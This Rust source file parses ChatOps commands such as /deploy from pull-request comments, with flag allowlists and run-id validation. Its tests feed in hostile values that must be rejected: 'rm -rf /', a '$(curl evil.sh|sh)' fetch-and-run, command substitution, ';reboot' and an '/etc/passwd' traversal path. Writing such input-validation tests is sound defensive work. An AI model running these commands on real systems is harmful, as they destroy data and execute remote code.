//! The ChatOps command grammar: what a PR comment may ask the bot to do.
//!
//! ```text
//! /build
//! /run
//! /build_run
//! /deploy [--run-id ID | --run-id=ID] [--force]
//! /staging_deploy [--run-id ID | --run-id=ID]
//! ```
//!
//! Rules, in the order they are applied to a comment:
//!
//! 1. The comment is read line by line (`\r\n` and `\n` both end a line).
//! 2. Lines that markdown does not show as plain text are skipped: fenced code
//!    blocks (```` ``` ```` / `~~~`), indented code (4+ spaces or a tab),
//!    block quotes (`>`), and HTML comments (`<!-- … -->`, which GitHub hides,
//!    so a hidden command can never fire).
//! 3. The first remaining line that starts with `/` followed by a letter is the
//!    command line (up to 3 leading spaces are allowed, as in markdown). A
//!    word with another `/` in it (`/tmp/x is full`) is a path, not a command.
//!    Lines after the command line are ignored.
//! 4. The command line is split on whitespace. No quoting, escaping or
//!    expansion of any kind happens: nothing in a comment ever reaches a shell.
//! 5. The command name must be one of the five above, exactly (lowercase).
//!    Flags are checked against a per-command allowlist; values are validated.
//!    Every rejection says what was wrong and what would be accepted.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::error::CommandError;

/// The longest command line accepted, in characters.
pub const MAX_LINE_CHARS: usize = 1024;

/// The longest run id accepted, in characters.
pub const MAX_RUN_ID_CHARS: usize = 128;

/// The five command names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandKind {
    /// `/build`: compile, build images, publish a version.
    Build,
    /// `/run`: run the version built last in this PR.
    Run,
    /// `/build_run`: build, then run it.
    BuildRun,
    /// `/deploy`: deploy to production, then merge and close the PR.
    Deploy,
    /// `/staging_deploy`: deploy to staging.
    StagingDeploy,
}

impl CommandKind {
    /// All commands, in the order they are listed to users.
    pub const ALL: [CommandKind; 5] =
        [CommandKind::Build, CommandKind::Run, CommandKind::BuildRun, CommandKind::Deploy, CommandKind::StagingDeploy];

    /// The name as typed after the slash.
    pub fn name(self) -> &'static str {
        match self {
            CommandKind::Build => "build",
            CommandKind::Run => "run",
            CommandKind::BuildRun => "build_run",
            CommandKind::Deploy => "deploy",
            CommandKind::StagingDeploy => "staging_deploy",
        }
    }

    fn from_name(name: &str) -> Option<Self> {
        CommandKind::ALL.into_iter().find(|k| k.name() == name)
    }

    fn flags(self) -> &'static [FlagSpec] {
        const RUN_ID: FlagSpec = FlagSpec { name: "--run-id", takes_value: true };
        const FORCE: FlagSpec = FlagSpec { name: "--force", takes_value: false };
        match self {
            CommandKind::Build | CommandKind::Run | CommandKind::BuildRun => &[],
            CommandKind::Deploy => &[RUN_ID, FORCE],
            CommandKind::StagingDeploy => &[RUN_ID],
        }
    }

    fn accepted(self) -> String {
        let flags = self.flags();
        if flags.is_empty() {
            return format!("`/{}` takes no arguments", self.name());
        }
        let list: Vec<String> = flags
            .iter()
            .map(|f| if f.takes_value { format!("`{} <ID>`", f.name) } else { format!("`{}`", f.name) })
            .collect();
        format!("`/{}` accepts {}", self.name(), list.join(" and "))
    }
}

impl fmt::Display for CommandKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "/{}", self.name())
    }
}

#[derive(Debug, Clone, Copy)]
struct FlagSpec {
    name: &'static str,
    takes_value: bool,
}

/// A parsed, validated ChatOps command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "command", rename_all = "snake_case")]
pub enum Command {
    /// `/build`.
    Build,
    /// `/run`.
    Run,
    /// `/build_run`.
    BuildRun,
    /// `/deploy [--run-id ID] [--force]`.
    Deploy {
        /// Deploy this run instead of the latest succeeded run of the PR.
        run_id: Option<String>,
        /// Skip the "PR is behind its base branch" check.
        force: bool,
    },
    /// `/staging_deploy [--run-id ID]`.
    StagingDeploy {
        /// Deploy this run instead of the latest succeeded run of the PR.
        run_id: Option<String>,
    },
}

impl Command {
    /// Which command this is.
    pub fn kind(&self) -> CommandKind {
        match self {
            Command::Build => CommandKind::Build,
            Command::Run => CommandKind::Run,
            Command::BuildRun => CommandKind::BuildRun,
            Command::Deploy { .. } => CommandKind::Deploy,
            Command::StagingDeploy { .. } => CommandKind::StagingDeploy,
        }
    }
}

impl fmt::Display for Command {
    /// The canonical spelling, e.g. `/deploy --run-id 42 --force`.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.kind())?;
        match self {
            Command::Deploy { run_id, force } => {
                if let Some(id) = run_id {
                    write!(f, " --run-id {id}")?;
                }
                if *force {
                    f.write_str(" --force")?;
                }
            }
            Command::StagingDeploy { run_id: Some(id) } => write!(f, " --run-id {id}")?,
            _ => {}
        }
        Ok(())
    }
}

/// Find and parse the command in a PR comment.
///
/// Returns `Ok(None)` when the comment contains no command line at all,
/// `Ok(Some(_))` for a valid command, and `Err(_)` when the first command line
/// is not valid (the error is meant to be shown to the comment's author).
pub fn parse_comment(body: &str) -> Result<Option<Command>, CommandError> {
    match find_command_line(body) {
        Some(line) => parse_command_line(line).map(Some),
        None => Ok(None),
    }
}

/// Parse one command line (starting with `/`, surrounding whitespace allowed).
pub fn parse_command_line(line: &str) -> Result<Command, CommandError> {
    let len = line.chars().count();
    if len > MAX_LINE_CHARS {
        return Err(CommandError::LineTooLong { len, max: MAX_LINE_CHARS });
    }
    let mut tokens = line.split_whitespace();
    let head = tokens.next().unwrap_or("");
    let name = head.strip_prefix('/').unwrap_or(head);
    let Some(kind) = CommandKind::from_name(name) else {
        let known: Vec<String> = CommandKind::ALL.iter().map(|k| format!("`{k}`")).collect();
        return Err(CommandError::UnknownCommand {
            name: display_token(name),
            suggestion: nearest(name, CommandKind::ALL.iter().map(|k| k.name())).map(str::to_owned),
            known: known.join(", "),
        });
    };

    let mut run_id: Option<String> = None;
    let mut force = false;
    let rest: Vec<&str> = tokens.collect();
    let mut i = 0;
    while i < rest.len() {
        let token = rest[i];
        i += 1;
        if !token.starts_with('-') {
            return Err(CommandError::UnexpectedArgument {
                command: kind.name().to_owned(),
                arg: display_token(token),
                accepted: kind.accepted(),
            });
        }
        let (flag_name, inline_value) = match token.split_once('=') {
            Some((n, v)) => (n, Some(v)),
            None => (token, None),
        };
        let Some(spec) = kind.flags().iter().find(|f| f.name == flag_name) else {
            return Err(CommandError::UnknownFlag {
                command: kind.name().to_owned(),
                flag: display_token(flag_name),
                suggestion: nearest(flag_name, kind.flags().iter().map(|f| f.name)).map(str::to_owned),
                accepted: kind.accepted(),
            });
        };
        if !spec.takes_value {
            if inline_value.is_some() {
                return Err(CommandError::UnexpectedValue { flag: spec.name.to_owned() });
            }
            if force {
                return Err(CommandError::DuplicateFlag { flag: spec.name.to_owned() });
            }
            force = true;
            continue;
        }
        let value = match inline_value {
            Some(v) => v,
            None => match rest.get(i) {
                Some(next) if !next.starts_with("--") => {
                    i += 1;
                    next
                }
                _ => "",
            },
        };
        if value.is_empty() {
            return Err(CommandError::MissingValue { command: kind.name().to_owned(), flag: spec.name.to_owned() });
        }
        validate_run_id(spec.name, value)?;
        if run_id.is_some() {
            return Err(CommandError::DuplicateFlag { flag: spec.name.to_owned() });
        }
        run_id = Some(value.to_owned());
    }

    Ok(match kind {
        CommandKind::Build => Command::Build,
        CommandKind::Run => Command::Run,
        CommandKind::BuildRun => Command::BuildRun,
        CommandKind::Deploy => Command::Deploy { run_id, force },
        CommandKind::StagingDeploy => Command::StagingDeploy { run_id },
    })
}

/// Run ids are KFP UUIDs or local run ids: ASCII letters, digits, `.`, `_`, `-`.
fn validate_run_id(flag: &str, value: &str) -> Result<(), CommandError> {
    let invalid = |reason: &str| CommandError::InvalidValue {
        flag: flag.to_owned(),
        value: display_token(value),
        reason: reason.to_owned(),
    };
    if value.chars().count() > MAX_RUN_ID_CHARS {
        return Err(invalid(&format!("run ids are at most {MAX_RUN_ID_CHARS} characters")));
    }
    if !value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')) {
        return Err(invalid("run ids contain only ASCII letters, digits, `.`, `_` and `-`"));
    }
    if !value.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return Err(invalid("run ids start with a letter or digit"));
    }
    Ok(())
}

/// The first line of `body` that markdown renders as text and that starts with `/<letter>`.
fn find_command_line(body: &str) -> Option<&str> {
    let mut fence: Option<(char, usize)> = None;
    let mut in_html_comment = false;
    for raw in body.split('\n') {
        let line = raw.strip_suffix('\r').unwrap_or(raw);
        if in_html_comment {
            if line.contains("-->") {
                in_html_comment = false;
            }
            continue;
        }
        if let Some((ch, len)) = fence {
            let t = line.trim();
            if t.len() >= len && t.chars().all(|c| c == ch) {
                fence = None;
            }
            continue;
        }
        if line.starts_with('\t') || line.starts_with("    ") {
            continue; // indented code block
        }
        let text = line.trim_start_matches(' ');
        if let Some(open) = fence_opening(text) {
            fence = Some(open);
            continue;
        }
        if text.starts_with('>') {
            continue; // block quote
        }
        if let Some(after) = text.strip_prefix("<!--") {
            if !after.contains("-->") {
                in_html_comment = true;
            }
            continue;
        }
        if is_command_start(text) {
            return Some(text);
        }
    }
    None
}

fn fence_opening(text: &str) -> Option<(char, usize)> {
    let ch = text.chars().next().filter(|c| *c == '`' || *c == '~')?;
    let len = text.chars().take_while(|c| *c == ch).count();
    (len >= 3).then_some((ch, len))
}

fn is_command_start(text: &str) -> bool {
    let Some(rest) = text.strip_prefix('/') else { return false };
    let word = rest.split(char::is_whitespace).next().unwrap_or("");
    word.starts_with(|c: char| c.is_ascii_alphabetic()) && !word.contains('/')
}

/// Closest candidate by edit distance (case-insensitive), if it is close enough to be a likely typo.
fn nearest<'a>(input: &str, candidates: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let lowered = input.to_lowercase();
    candidates
        .map(|c| (strsim::damerau_levenshtein(&lowered, c), c))
        .filter(|(d, c)| *d <= 2.max(c.len() / 4))
        .min_by_key(|(d, _)| *d)
        .map(|(_, c)| c)
}

/// A token made safe to quote back in a comment: control and invisible
/// characters escaped, backticks replaced, and long tokens shortened.
fn display_token(token: &str) -> String {
    const MAX: usize = 40;
    let mut out = String::new();
    for (n, c) in token.chars().enumerate() {
        if n == MAX {
            out.push('…');
            break;
        }
        match c {
            '`' => out.push('\''),
            c if c.is_control() || is_invisible(c) => out.extend(c.escape_unicode()),
            c => out.push(c),
        }
    }
    out
}

/// Format and bidi control characters that render as nothing (or reorder text).
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
}

#[cfg(test)]
mod tests {
    use super::*;

    enum Want {
        NoCmd,
        Cmd(Command),
        Fails(&'static str),
    }
    use Want::*;

    fn deploy(run_id: Option<&str>, force: bool) -> Want {
        Cmd(Command::Deploy { run_id: run_id.map(str::to_owned), force })
    }

    fn staging(run_id: Option<&str>) -> Want {
        Cmd(Command::StagingDeploy { run_id: run_id.map(str::to_owned) })
    }

    #[test]
    fn grammar_table() {
        let long_value = format!("/deploy --run-id {}", "a".repeat(MAX_RUN_ID_CHARS + 1));
        let long_line = format!("/build {}", " ".repeat(MAX_LINE_CHARS));
        let max_run_id = format!("/deploy --run-id {}", "b".repeat(MAX_RUN_ID_CHARS));
        let table: Vec<(&str, Want)> = vec![
            // The basics, including the original kfops test table.
            ("/build", Cmd(Command::Build)),
            ("/run", Cmd(Command::Run)),
            ("/build_run", Cmd(Command::BuildRun)),
            (" /build_run ", Cmd(Command::BuildRun)),
            ("/build_run \ncomment in next line", Cmd(Command::BuildRun)),
            ("/build_run \r\ncomment in next line", Cmd(Command::BuildRun)),
            ("/deploy", deploy(None, false)),
            ("/deploy --run-id=123 --force", deploy(Some("123"), true)),
            ("/deploy --force --run-id 123", deploy(Some("123"), true)),
            ("First line\n/deploy --run-id=123\nLast line", deploy(Some("123"), false)),
            ("First line\r\n/deploy --run-id=123\r\nLast line", deploy(Some("123"), false)),
            ("/staging_deploy", staging(None)),
            ("/staging_deploy --run-id 6f1c-22ab_x.1", staging(Some("6f1c-22ab_x.1"))),
            ("/deploy\t--run-id\t42", deploy(Some("42"), false)),
            (max_run_id.as_str(), deploy(Some(&"b".repeat(MAX_RUN_ID_CHARS)), false)),
            // First command line wins.
            ("/run\n/deploy --force", Cmd(Command::Run)),
            ("looks good\n\n/build\n/deploy", Cmd(Command::Build)),
            // No command at all.
            ("", NoCmd),
            ("LGTM, ship it", NoCmd),
            ("please /deploy now", NoCmd),
            ("/tmp/data is full again", NoCmd),
            ("/ build", NoCmd),
            ("//build", NoCmd),
            // Code, quotes and hidden text never trigger.
            ("```\n/deploy --force\n```", NoCmd),
            ("~~~~\n/deploy\n~~~\nstill code\n~~~~", NoCmd),
            ("```sh\n/deploy\n```\n/run", Cmd(Command::Run)),
            ("    /deploy --force", NoCmd),
            ("\t/deploy", NoCmd),
            ("> /deploy --force\nquoting the docs", NoCmd),
            ("   > /build", NoCmd),
            ("<!--\n/deploy --force\n-->", NoCmd),
            ("<!-- /deploy -->\n/run", Cmd(Command::Run)),
            ("`/deploy` is how you ship", NoCmd),
            // Unknown commands, with suggestions where close.
            ("/deplyo", Fails("unknown command `/deplyo` (did you mean `/deploy`?)")),
            ("/runner", Fails("unknown command `/runner`")),
            ("/Build", Fails("(did you mean `/build`?)")),
            ("/build-run", Fails("(did you mean `/build_run`?)")),
            (
                "/cc @alice",
                Fails(
                    "unknown command `/cc`; known commands: `/build`, `/run`, `/build_run`, `/deploy`, `/staging_deploy`",
                ),
            ),
            ("/d\u{0435}ploy", Fails("unknown command `/dеploy` (did you mean `/deploy`?)")),
            // Flags outside the allowlist.
            ("/build --force", Fails("`/build` does not accept `--force`; `/build` takes no arguments")),
            ("/build please", Fails("unexpected argument `please`: `/build` takes no arguments")),
            ("/run --version-id 12", Fails("`/run` does not accept `--version-id`")),
            ("/deploy --runid 5", Fails("does not accept `--runid` (did you mean `--run-id`?)")),
            ("/deploy --run_id=5", Fails("(did you mean `--run-id`?)")),
            ("/deploy -f", Fails("does not accept `-f`")),
            (
                "/staging_deploy --force",
                Fails("`/staging_deploy` does not accept `--force`; `/staging_deploy` accepts `--run-id <ID>`"),
            ),
            ("/deploy --set pipeline.name=x", Fails("does not accept `--set`")),
            // Values.
            ("/deploy --run-id", Fails("`--run-id` needs a value")),
            ("/deploy --run-id=", Fails("`--run-id` needs a value")),
            ("/deploy --run-id --force", Fails("`--run-id` needs a value")),
            ("/deploy --force=true", Fails("`--force` takes no value")),
            ("/deploy --force --force", Fails("`--force` is given more than once")),
            ("/deploy --run-id 1 --run-id=2", Fails("`--run-id` is given more than once")),
            ("/deploy --run-id 1 2", Fails("unexpected argument `2`")),
            // Hostile values: nothing is ever interpreted, everything odd is refused.
            ("/build '; rm -rf / #", Fails("unexpected argument `';`: `/build` takes no arguments")),
            ("/deploy --run-id $(curl evil.sh|sh)", Fails("invalid value `$(curl` for `--run-id`")),
            ("/deploy --run-id=`id`", Fails("invalid value `'id'` for `--run-id`")),
            ("/deploy --run-id=a;reboot", Fails("run ids contain only ASCII letters")),
            (
                "/deploy --run-id=../../etc/passwd",
                Fails("invalid value `../../etc/passwd` for `--run-id`: run ids contain only"),
            ),
            ("/deploy --run-id=-rf", Fails("run ids start with a letter or digit")),
            ("/deploy --run-id=\u{202E}321", Fails("invalid value `\\u{202e}321`")),
            ("/deploy --run-id=id\u{0}x", Fails("invalid value `id\\u{0}x`")),
            ("/deploy --run-id=ünïcödé", Fails("run ids contain only ASCII letters")),
            ("/build\u{200B}", Fails("unknown command `/build\\u{200b}`")),
            (long_value.as_str(), Fails("run ids are at most 128 characters")),
            (long_line.as_str(), Fails("commands are at most 1024 characters")),
        ];
        assert!(table.len() >= 30);
        for (input, want) in table {
            let got = parse_comment(input);
            match (&want, &got) {
                (NoCmd, Ok(None)) => {}
                (Cmd(c), Ok(Some(g))) if c == g => {}
                (Fails(fragment), Err(e)) if e.to_string().contains(fragment) => {}
                _ => panic!("input {input:?}: got {got:?}, want {}", describe(&want)),
            }
        }
    }

    fn describe(w: &Want) -> String {
        match w {
            NoCmd => "no command".into(),
            Cmd(c) => format!("{c:?}"),
            Fails(f) => format!("error containing {f:?}"),
        }
    }

    #[test]
    fn long_comments_are_scanned_in_linear_time_and_quoted_tokens_are_bounded() {
        let body = format!("{}\n/deploy --run-id {}", "x\n".repeat(100_000), "z".repeat(10));
        assert_eq!(parse_comment(&body), Ok(Some(Command::Deploy { run_id: Some("z".repeat(10)), force: false })));
        let err = parse_comment(&format!("/build {}", "y".repeat(500))).unwrap_err().to_string();
        assert!(err.len() < 200, "error quotes the whole token: {err}");
    }

    #[test]
    fn display_round_trips_through_the_parser() {
        for cmd in [
            Command::Build,
            Command::Run,
            Command::BuildRun,
            Command::Deploy { run_id: Some("abc-1".into()), force: true },
            Command::Deploy { run_id: None, force: false },
            Command::StagingDeploy { run_id: Some("r.2".into()) },
        ] {
            assert_eq!(parse_comment(&cmd.to_string()), Ok(Some(cmd.clone())), "{cmd}");
        }
    }
}
